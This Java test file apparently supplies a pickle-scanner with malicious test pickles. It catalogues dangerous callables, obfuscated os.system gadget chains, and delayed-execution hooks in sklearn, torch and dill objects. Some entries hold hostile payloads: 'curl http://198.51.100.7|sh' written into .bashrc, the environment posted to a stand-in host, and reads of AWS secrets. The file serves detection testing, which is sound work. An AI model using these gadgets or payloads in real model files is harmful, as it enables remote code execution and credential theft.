package dev.bartizan.artifacts;

import static dev.bartizan.artifacts.PickleParts.built;
import static dev.bartizan.artifacts.PickleParts.bytes;
import static dev.bartizan.artifacts.PickleParts.call;
import static dev.bartizan.artifacts.PickleParts.dict;
import static dev.bartizan.artifacts.PickleParts.list;
import static dev.bartizan.artifacts.PickleParts.made;
import static dev.bartizan.artifacts.PickleParts.name;
import static dev.bartizan.artifacts.PickleParts.none;
import static dev.bartizan.artifacts.PickleParts.number;
import static dev.bartizan.artifacts.PickleParts.pickle;
import static dev.bartizan.artifacts.PickleParts.text;
import static dev.bartizan.artifacts.PickleParts.tuple;

import dev.bartizan.artifacts.PickleParts.Part;
import java.util.ArrayList;
import java.util.List;

/// Functions of the standard library and of libraries around models that run, load, fetch or change
/// something when a pickle calls them, alone and put together.
final class CallableTrials {
    /// What is called with one text, by whom: `module:name text`.
    private static final List<String> WITH_TEXT =
            List.of(
                    "site:addsitedir /tmp/x",
                    "code:InteractiveInterpreter.runsource import os",
                    "doctest:testfile /tmp/x.py",
                    "compileall:compile_dir /usr/lib/python3",
                    "zipapp:create_archive /home",
                    "http.server:test x",
                    "xmlrpc.client:ServerProxy http://198.51.100.7",
                    "dbm.dumb:open /tmp/x",
                    "linecache:getlines /etc/passwd",
                    "tokenize:open /etc/passwd",
                    "pathlib:Path.unlink /etc/passwd",
                    "readline:read_init_file /tmp/x",
                    "logging.config:fileConfig /tmp/x.ini",
                    "ctypes.util:find_library x",
                    "_ctypes:dlopen /tmp/x.so",
                    "imaplib:IMAP4_stream touch marker",
                    "ssl:get_server_certificate 198.51.100.7",
                    "netrc:netrc /root/.netrc",
                    "imp:load_dynamic /tmp/x.so",
                    "pydoc:importfile /tmp/x.py",
                    "modulefinder:ModuleFinder.run_script /tmp/x.py",
                    "distutils.core:run_setup /tmp/setup.py",
                    "distutils.dir_util:remove_tree /home",
                    "importlib._bootstrap:_gcd_import evil",
                    "lib2to3.main:main x",
                    "webbrowser:BackgroundBrowser touch",
                    "platform:_syscmd_file /bin/x",
                    "sqlite3.dbapi2:connect /tmp/x.db",
                    "numpy:fromfile /etc/passwd",
                    "numpy.lib.npyio:load /tmp/x.npy",
                    "numpy.lib._datasource:open http://198.51.100.7/x",
                    "numpy.ctypeslib:load_library x",
                    "numpy.f2py.crackfortran:myeval __import__('os').system('id')",
                    "scipy.io:loadmat /tmp/x.mat",
                    "pandas:read_pickle http://198.51.100.7/x.pkl",
                    "pandas:eval @pd.io.common.os.system('id')",
                    "sklearn.datasets:load_files /etc",
                    "sklearn.utils._testing:_delete_folder /home",
                    "joblib.externals.cloudpickle:loads x",
                    "torch:classes.load_library /tmp/x.so",
                    "torch.jit:load /tmp/x.pt",
                    "torch.utils.model_zoo:load_url http://198.51.100.7/x.pth",
                    "torch.fx.graph_module:_forward_from_src import os",
                    "torch.utils.benchmark:Timer import os",
                    "torch.package:PackageImporter /tmp/x.pt",
                    "torch._inductor.codecache:PyCodeCache.load import os",
                    "tensorflow:load_op_library /tmp/x.so",
                    "tensorflow.python.lib.io.file_io:delete_recursively /home",
                    "keras.src.saving:load_model /tmp/x.keras",
                    "transformers:AutoModel.from_pretrained evil/model",
                    "huggingface_hub:snapshot_download evil/model",
                    "datasets:load_dataset evil/data",
                    "mlflow.pyfunc:load_model http://198.51.100.7",
                    "fsspec:open_local http://198.51.100.7/x",
                    "gdown:download http://198.51.100.7/x",
                    "pexpect:run touch marker",
                    "sympy:sympify __import__('os').system('id')",
                    "jinja2:Template {{ cycler.__init__.__globals__.os }}",
                    "jsonpickle:decode {\"py/reduce\": []}",
                    "hydra.utils:get_method os.system",
                    "nltk.data:load /tmp/x.pickle",
                    "spacy.cli:download evil",
                    "gensim.utils:unpickle /tmp/x",
                    "PIL.ImageMath:unsafe_eval exec('')",
                    "IPython.utils.process:getoutput id",
                    "Cython.Build:cython_inline import os",
                    "numexpr:evaluate __import__('os')",
                    "onnxruntime:InferenceSession /tmp/x.onnx",
                    "ray.cloudpickle:loads x",
                    "dask.config:collect /tmp",
                    "lightgbm:Booster /tmp/x.txt",
                    "h5py:File /tmp/x.h5",
                    "triton.runtime.build:_build x",
                    "skops.io:load /tmp/x.skops",
                    "bentoml:import_model /tmp/x",
                    "paddle:load /tmp/x.pdparams",
                    "streamlit.web.bootstrap:run /tmp/x.py");

    private final List<Trial> all = new ArrayList<>();

    static List<Trial> all() {
        CallableTrials trials = new CallableTrials();
        for (String row : WITH_TEXT) {
            String[] parts = row.split(" ", 2);
            trials.bad(parts[0], call(parts[0], text(parts[1])));
        }
        trials.together();
        trials.held();
        return trials.all;
    }

    private void bad(String name, Part part) {
        all.add(Trial.bad("callable/" + name, "m.pkl", pickle(part)));
    }

    private static Part partial(String callable, Part... arguments) {
        Part[] both = new Part[arguments.length + 1];
        both[0] = name(callable);
        System.arraycopy(arguments, 0, both, 1, arguments.length);
        return call("functools:partial", both);
    }

    /// Several harmless-looking ones that together run something.
    private void together() {
        Part command = text("touch marker");
        bad(
                "list-of-map",
                call("builtins:list", call("builtins:map", name("os:system"), list(command))));
        bad("sorted-by-key", call("builtins:sorted", list(command, command), name("os:system")));
        bad(
                "starmap-in-set",
                call(
                        "builtins:set",
                        call("itertools:starmap", name("posix:system"), list(tuple(command)))));
        bad(
                "deque-of-filter",
                call(
                        "collections:deque",
                        call("builtins:filter", name("os:popen"), list(command))));
        bad(
                "sum-of-map",
                call("builtins:sum", call("builtins:map", name("os:system"), list(command))));
        bad(
                "iter-until",
                call(
                        "builtins:next",
                        call("builtins:iter", partial("os:system", command), number(0))));
        bad("partial-called", call(partial("subprocess:check_output", list(text("id")))));
        bad(
                "methodcaller-on-module",
                call(
                        call("operator:methodcaller", text("system"), command),
                        call("builtins:__import__", text("os"))));
        bad(
                "attrgetter-chain",
                call(
                        call(
                                call("operator:attrgetter", text("__init__.__globals__")),
                                name("argparse:ArgumentParser")),
                        command));
        bad(
                "itemgetter-of-builtins",
                call(
                        call(call("operator:itemgetter", text("eval")), name("builtins:__dict__")),
                        text("1")));
        bad("operator-call", call("operator:call", name("os:system"), command));
        bad(
                "reduce-with-call",
                call("functools:reduce", name("operator:call"), list(name("os:system"), command)));
        bad(
                "dict-default-factory",
                call(
                        "operator:getitem",
                        call("collections:defaultdict", partial("os:system", command)),
                        text("x")));
        bad("regex-scanner", call("re:sub", text("."), partial("os:system"), text("a")));
        bad("thread-timer", call("threading:Timer", number(1), name("os:system"), list(command)));
        bad(
                "weakref-finalize",
                call(
                        "weakref:finalize",
                        name("collections:OrderedDict"),
                        name("os:system"),
                        command));
        bad("atexit", call("atexit:register", name("os:system"), command));
        bad("signal-handler", call("signal:signal", number(14), name("code:interact")));
        bad(
                "executor-submit",
                call(
                        "concurrent.futures:ThreadPoolExecutor.submit",
                        call("concurrent.futures:ThreadPoolExecutor"),
                        name("os:system"),
                        command));
        bad("process-made", made("multiprocessing.context:Process", none(), name("os:system")));
        bad(
                "exit-stack",
                call(
                        "contextlib:ExitStack.callback",
                        made("contextlib:ExitStack"),
                        name("os:system"),
                        command));
        bad("ctypes-function", call("ctypes:CFUNCTYPE", none()));
        bad("ctypes-memory", call("ctypes:string_at", number(4096), number(64)));
        bad(
                "new-function",
                call(
                        "types:FunctionType",
                        call("builtins:compile", text("import os"), text("x"), text("exec")),
                        dict()));
        bad(
                "make-type",
                call(
                        "builtins:type",
                        text("A"),
                        tuple(name("builtins:object")),
                        dict(text("__reduce__"), name("os:getcwd"))));
        bad("import-hook", built(name("sys:meta_path"), dict(text("x"), name("evil:Finder"))));
        bad(
                "setattr-builtin",
                call(
                        "builtins:setattr",
                        call("importlib:import_module", text("builtins")),
                        text("open"),
                        name("os:system")));
        bad(
                "setitem-modules",
                call("operator:setitem", name("sys:modules"), text("json"), name("evil:module")));
        bad("environment", call("os:environ.__setitem__", text("LD_PRELOAD"), text("/tmp/x.so")));
        bad("putenv", call("os:putenv", text("PYTHONSTARTUP"), text("/tmp/x.py")));
        bad("abort", call("os:abort"));
        bad("exit-now", call("os:_exit", number(0)));
        bad("kill", call("os:kill", number(1), number(9)));
        bad("chmod", call("os:chmod", text("/etc/shadow"), number(511)));
        bad("symlink", call("os:symlink", text("/etc/passwd"), text("weights.bin")));
        bad(
                "write-text",
                call(
                        "pathlib:Path.write_text",
                        call("pathlib:PosixPath", text("/root/.bashrc")),
                        text("curl http://198.51.100.7|sh")));
        bad("write-numpy", call("numpy:save", text("/etc/cron.d/x"), text("a")));
        bad("log-over-a-file", call("joblib.logger:PrintTime", text("/root/.bashrc")));
        bad(
                "kept-result",
                call(
                        "joblib.memory:MemorizedResult.get",
                        call("joblib.memory:MemorizedResult", text("/tmp/x"), text("f"))));
        bad("memmap-write", call("numpy:memmap", text("/etc/passwd"), text("u1"), text("r+")));
        bad("file-io", call("io:FileIO", text("/root/.ssh/authorized_keys"), text("a")));
        bad(
                "dict-config",
                call(
                        "logging.config:dictConfig",
                        dict(
                                text("version"),
                                number(1),
                                text("formatters"),
                                dict(
                                        text("f"),
                                        dict(
                                                text("()"),
                                                text("os.system"),
                                                text("command"),
                                                command)))));
        bad(
                "http-post",
                call(
                        "urllib.request:Request",
                        text("http://198.51.100.7/c"),
                        call("os:environ.copy")));
        bad("read-environment", call("os:getenv", text("AWS_SECRET_ACCESS_KEY")));
        bad(
                "dataclass-code",
                call(
                        "dataclasses:make_dataclass",
                        text("A"),
                        list(tuple(text("x"), text("__import__('os').system('id')")))));
        bad("unpickle-bytes", call("_pickle:loads", bytes(Pickles.calling("os", "system"))));
        bad(
                "unpickle-codec",
                call(
                        "pickle:loads",
                        call("_codecs:encode", text("cos\nsystem\n(S'id'\ntR."), text("latin1"))));
        bad(
                "unpickle-hex",
                call(
                        "pickle:_loads",
                        call("bytes:fromhex", text("636f730a73797374656d0a28532769640a745252e"))));
        bad(
                "marshal-zlib",
                call(
                        "marshal:loads",
                        call("zlib:decompress", bytes(new byte[] {0x78, (byte) 0x9c, 3, 0}))));
        bad(
                "literal-exec",
                call("builtins:exec", call("codecs:decode", text("vzcbeg bf"), text("rot13"))));
        bad("base85-exec", call("builtins:exec", call("base64:b85decode", text("X>D+Ca&Kd0"))));
        bad(
                "joined-name",
                call(
                        call(
                                "builtins:getattr",
                                call("builtins:__import__", text("os")),
                                call("str:join", text(""), list(text("sys"), text("tem")))),
                        command));
        bad(
                "reversed-name",
                call(
                        call(
                                "builtins:getattr",
                                name("os:path"),
                                call(
                                        "str:__getitem__",
                                        text("metsys"),
                                        call("builtins:slice", none(), none(), number(-1)))),
                        command));
    }

    /// Objects that do nothing yet and run something once they are used as meant.
    private void held() {
        Part command = text("touch marker");
        bad(
                "sklearn-transformer",
                built(
                        made("sklearn.preprocessing._function_transformer:FunctionTransformer"),
                        dict(text("func"), name("os:system"), text("validate"), none())));
        bad(
                "sklearn-vectorizer",
                built(
                        made("sklearn.feature_extraction.text:CountVectorizer"),
                        dict(text("tokenizer"), name("builtins:eval"), text("lowercase"), none())));
        bad(
                "sklearn-pipeline-step",
                built(
                        made("sklearn.pipeline:Pipeline"),
                        dict(
                                text("steps"),
                                list(
                                        tuple(
                                                text("a"),
                                                built(
                                                        made(
                                                                "sklearn.preprocessing._function_transformer:FunctionTransformer"),
                                                        dict(
                                                                text("func"),
                                                                partial("subprocess:call"))))))));
        bad(
                "torch-hook",
                built(
                        made("torch.nn.modules.linear:Linear"),
                        dict(text("_forward_pre_hooks"), dict(number(0), name("os:system")))));
        bad(
                "torch-forward",
                built(
                        made("torch.nn.modules.activation:ReLU"),
                        dict(text("forward"), name("builtins:exec"), text("training"), none())));
        bad(
                "torch-collate",
                built(
                        made("torch.utils.data.dataloader:DataLoader"),
                        dict(text("collate_fn"), partial("os:system", command))));
        bad(
                "numpy-vectorize",
                built(made("numpy:vectorize"), dict(text("pyfunc"), name("os:system"))));
        bad(
                "cached-property",
                built(made("functools:cached_property"), dict(text("func"), name("os:system"))));
        bad(
                "transforms-lambda",
                built(
                        made("torchvision.transforms.transforms:Lambda"),
                        dict(text("lambd"), name("builtins:eval"))));
        bad(
                "default-factory-kept",
                dict(text("cache"), call("collections:defaultdict", name("os:getpid"))));
        bad("partial-kept", dict(text("preprocess"), partial("os:system", command)));
        bad(
                "spacy-factory",
                built(
                        made("spacy.language:Language"),
                        dict(text("_components"), list(tuple(text("x"), name("subprocess:run"))))));
        bad(
                "dill-lambda",
                call(
                        "dill._dill:_create_function",
                        call(
                                "dill._dill:_create_code",
                                number(1),
                                number(0),
                                number(0),
                                number(1),
                                number(2),
                                number(67),
                                bytes(new byte[] {'t', 0, 'j', 1}),
                                tuple(none()),
                                tuple(text("os"), text("system")),
                                tuple(text("x")),
                                text("<stdin>"),
                                text("<lambda>"),
                                number(1),
                                bytes(new byte[0]),
                                tuple(),
                                tuple()),
                        dict()));
        bad(
                "cloudpickle-function",
                call(
                        "cloudpickle.cloudpickle:_make_function",
                        call("cloudpickle.cloudpickle:_builtin_type", text("CodeType")),
                        dict(),
                        none(),
                        none(),
                        none()));
    }
}
